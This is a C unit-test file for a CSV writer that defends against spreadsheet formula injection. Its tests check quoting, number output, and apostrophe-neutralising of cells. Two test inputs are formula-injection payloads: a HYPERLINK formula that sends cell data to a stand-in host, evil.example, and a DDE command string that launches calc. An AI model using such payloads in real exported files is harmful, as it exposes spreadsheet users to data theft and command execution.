/* test_render_csv.c — writing CSV cells that are safe to open in a
 * spreadsheet (src/render/csv.c).
 */
#include <limits.h>

#include "testutil.h"

#include "../../src/render/csv.h"
#include "../../src/util/csv.h"

/* The text csv_cell writes for s as the first cell of a row. */
static void expect_cell(const char *s, const char *want)
{
	struct buf b;

	buf_init(&b);
	csv_cell(&b, s, 1);
	assert_false(b.failed);
	assert_string_equal(buf_str(&b), want);
	buf_reset(&b);
}

/* ---- Plain cells and separators --------------------------------------- */

static void plain_cell_is_written_as_it_is(void **state)
{
	(void)state;
	expect_cell("Jan", "Jan");
	expect_cell("jan@x.nl", "jan@x.nl");
	expect_cell("Ren\xC3\xA9" "e", "Ren\xC3\xA9" "e");
	expect_cell("a=b", "a=b");                  /* '=' not at the start */
	expect_cell("e-mail", "e-mail");
	expect_cell("REG-BV-A", "REG-BV-A");
}

static void empty_and_null_cells_are_empty(void **state)
{
	(void)state;
	expect_cell("", "");
	expect_cell(NULL, "");
}

static void cells_after_the_first_follow_a_comma(void **state)
{
	struct buf b;

	(void)state;
	buf_init(&b);
	csv_cell(&b, "a", 1);
	csv_cell(&b, "b", 0);
	csv_cell(&b, NULL, 0);
	csv_cell(&b, "", 0);
	csv_cell(&b, "c", 0);
	csv_end(&b);
	assert_string_equal(buf_str(&b), "a,b,,,c\r\n");
	buf_reset(&b);
}

/* ---- Quoting ---------------------------------------------------------- */

static void cell_with_a_separator_is_quoted(void **state)
{
	(void)state;
	expect_cell("Jansen, P.", "\"Jansen, P.\"");
	expect_cell("a;b", "\"a;b\"");              /* ';' as Dutch spreadsheets read it */
}

static void cell_with_a_line_break_is_quoted(void **state)
{
	(void)state;
	expect_cell("regel 1\nregel 2", "\"regel 1\nregel 2\"");
	expect_cell("regel 1\r\nregel 2", "\"regel 1\r\nregel 2\"");
	expect_cell("a\rb", "\"a\rb\"");
}

static void quote_in_a_cell_is_doubled_and_the_cell_quoted(void **state)
{
	(void)state;
	expect_cell("zei \"ja\"", "\"zei \"\"ja\"\"\"");
	expect_cell("\"", "\"\"\"\"");
	expect_cell("\"\"", "\"\"\"\"\"\"");
}

static void cell_with_spaces_at_either_end_is_quoted(void **state)
{
	(void)state;
	expect_cell(" a", "\" a\"");
	expect_cell("a ", "\"a \"");
	expect_cell(" ", "\" \"");
	expect_cell("a b", "a b");
}

/* ---- Formulas --------------------------------------------------------- */

static void cell_starting_with_a_formula_character_gets_an_apostrophe(void **state)
{
	(void)state;
	expect_cell("=1+1", "'=1+1");
	expect_cell("+31 6 12345678", "'+31 6 12345678");
	expect_cell("-5", "'-5");
	expect_cell("@SUM(A1:A9)", "'@SUM(A1:A9)");
	expect_cell("\tx", "'\tx");
	expect_cell("=", "'=");
}

static void cell_starting_with_cr_is_neutralised_and_quoted(void **state)
{
	(void)state;
	expect_cell("\r=1+1", "\"'\r=1+1\"");
}

static void hyperlink_formula_does_not_start_with_equals(void **state)
{
	struct buf b;
	const char *out;

	(void)state;
	buf_init(&b);
	csv_cell(&b, "=HYPERLINK(\"https://evil.example/?\"&A1,\"klik\")", 1);
	out = buf_str(&b);
	/* The cell as a spreadsheet sees it starts after the opening quote. */
	assert_int_equal(out[0], '"');
	assert_int_not_equal(out[1], '=');
	assert_string_equal(out, "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"klik\"\")\"");
	buf_reset(&b);
}

static void formula_after_a_comma_is_neutralised_too(void **state)
{
	struct buf b;

	(void)state;
	buf_init(&b);
	csv_cell(&b, "Jan", 1);
	csv_cell(&b, "=cmd|' /C calc'!A0", 0);
	csv_cell(&b, "-2+3", 0);
	assert_string_equal(buf_str(&b), "Jan,'=cmd|' /C calc'!A0,'-2+3");
	buf_reset(&b);
}

/* ---- Numbers ---------------------------------------------------------- */

static void integers_are_written_unchanged(void **state)
{
	struct buf b;

	(void)state;
	buf_init(&b);
	csv_int(&b, 0, 1);
	csv_int(&b, 5, 0);
	csv_int(&b, 42, 0);
	csv_int(&b, LLONG_MAX, 0);
	assert_string_equal(buf_str(&b), "0,5,42,9223372036854775807");
	buf_reset(&b);
}

static void negative_integer_is_an_empty_cell(void **state)
{
	struct buf b;

	(void)state;
	buf_init(&b);
	csv_int(&b, -1, 1);
	csv_int(&b, 3, 0);
	csv_int(&b, LLONG_MIN, 0);
	csv_end(&b);
	assert_string_equal(buf_str(&b), ",3,\r\n");
	buf_reset(&b);
}

static void rows_end_with_crlf(void **state)
{
	struct buf b;

	(void)state;
	buf_init(&b);
	csv_cell(&b, "rater", 1);
	csv_int(&b, 4, 0);
	csv_end(&b);
	csv_cell(&b, "x", 1);
	csv_end(&b);
	assert_string_equal(buf_str(&b), "rater,4\r\nx\r\n");
	buf_reset(&b);
}

/* ---- Round trip ------------------------------------------------------- */

/* Whatever csv_cell writes, the strict reader reads back as the same
 * text, with an apostrophe in front where a formula was neutralised. */
static void written_cells_read_back_as_the_same_text(void **state)
{
	static const char *const cells[] = {
		"Jan", "", "Jansen, P.", "a;b", "zei \"ja\"", "regel 1\nregel 2",
		"regel 1\r\nregel 2", " spatie ", "=1+1", "-5", "@x", "\tx", "\rx",
		"=HYPERLINK(\"x\")", ("Ren\xC3\xA9" "e"), "\"", ",",
	};
	const size_t ncell = sizeof cells / sizeof cells[0];
	struct buf b;
	struct csv_reader r;
	struct arena *a = arena_new();
	struct err e;
	char **f;
	size_t nf, line;

	(void)state;
	assert_non_null(a);
	buf_init(&b);
	csv_cell(&b, "kop", 1);
	for (size_t i = 1; i < ncell; i++)
		csv_cell(&b, "kop", 0);
	csv_end(&b);
	for (size_t i = 0; i < ncell; i++)
		csv_cell(&b, cells[i], i == 0);
	csv_end(&b);
	assert_int_equal(csv_open(&r, buf_str(&b), b.len, &e), AZ_OK);
	assert_int_equal(csv_next(&r, a, &f, &nf, &line, &e), 1);
	assert_int_equal(nf, ncell);
	if (csv_next(&r, a, &f, &nf, &line, &e) != 1)
		fail_msg("%s", e.msg);
	assert_int_equal(nf, ncell);
	for (size_t i = 0; i < ncell; i++) {
		int neutralised = cells[i][0] != '\0' && strchr("=+-@\t\r", cells[i][0]) != NULL;

		if (neutralised) {
			assert_int_equal(f[i][0], '\'');
			assert_string_equal(f[i] + 1, cells[i]);
		} else {
			assert_string_equal(f[i], cells[i]);
		}
	}
	assert_int_equal(csv_next(&r, a, &f, &nf, &line, &e), 0);
	buf_reset(&b);
	arena_free(a);
}

/* Random rows of random cells, written with csv_cell and read back with
 * the strict reader, come back cell for cell. */
static void random_cells_read_back_as_written(void **state)
{
	static const char alphabet[] = "a=+-@\t\r\n,;\" \xC3\xA9";
	enum { NROW = 8, NCELL = 6, CELLMAX = 6 };
	char cells[NROW][NCELL][CELLMAX + 1];
	int ncell[NROW];
	uint32_t seed = 4180;

	(void)state;
	for (int run = 0; run < 2000; run++) {
		struct buf b;
		struct csv_reader r;
		struct arena *a = arena_new();
		struct err e;
		char **f;
		size_t nf, line;

		assert_non_null(a);
		buf_init(&b);
		for (int row = 0; row < NROW; row++) {
			ncell[row] = test_rand_int(&seed, 2, NCELL);
			for (int c = 0; c < ncell[row]; c++) {
				int len = test_rand_int(&seed, 0, CELLMAX);

				for (int i = 0; i < len; i++)
					cells[row][c][i] = alphabet[test_rand(&seed) % (sizeof alphabet - 1)];
				cells[row][c][len] = '\0';
				/* Keep the text UTF-8: a lone half of the e acute is not. */
				for (int i = 0; i < len; i++)
					if ((unsigned char)cells[row][c][i] >= 0x80)
						cells[row][c][i] = 'e';
				csv_cell(&b, cells[row][c], c == 0);
			}
			csv_end(&b);
		}
		if (csv_open(&r, buf_str(&b), b.len, &e) != AZ_OK)
			fail_msg("run %d: %s", run, e.msg);
		for (int row = 0; row < NROW; row++) {
			if (csv_next(&r, a, &f, &nf, &line, &e) != 1)
				fail_msg("run %d, row %d: %s\n%s", run, row, e.msg, buf_str(&b));
			assert_int_equal(nf, ncell[row]);
			for (int c = 0; c < ncell[row]; c++) {
				const char *want = cells[row][c];

				if (want[0] != '\0' && strchr("=+-@\t\r", want[0]) != NULL) {
					assert_int_equal(f[c][0], '\'');
					assert_string_equal(f[c] + 1, want);
				} else {
					assert_string_equal(f[c], want);
				}
			}
		}
		assert_int_equal(csv_next(&r, a, &f, &nf, &line, &e), 0);
		buf_reset(&b);
		arena_free(a);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(plain_cell_is_written_as_it_is),
		cmocka_unit_test(empty_and_null_cells_are_empty),
		cmocka_unit_test(cells_after_the_first_follow_a_comma),
		cmocka_unit_test(cell_with_a_separator_is_quoted),
		cmocka_unit_test(cell_with_a_line_break_is_quoted),
		cmocka_unit_test(quote_in_a_cell_is_doubled_and_the_cell_quoted),
		cmocka_unit_test(cell_with_spaces_at_either_end_is_quoted),
		cmocka_unit_test(cell_starting_with_a_formula_character_gets_an_apostrophe),
		cmocka_unit_test(cell_starting_with_cr_is_neutralised_and_quoted),
		cmocka_unit_test(hyperlink_formula_does_not_start_with_equals),
		cmocka_unit_test(formula_after_a_comma_is_neutralised_too),
		cmocka_unit_test(integers_are_written_unchanged),
		cmocka_unit_test(negative_integer_is_an_empty_cell),
		cmocka_unit_test(rows_end_with_crlf),
		cmocka_unit_test(written_cells_read_back_as_the_same_text),
		cmocka_unit_test(random_cells_read_back_as_written),
	};

	return cmocka_run_group_tests_name("csv writer", tests, NULL, NULL);
}
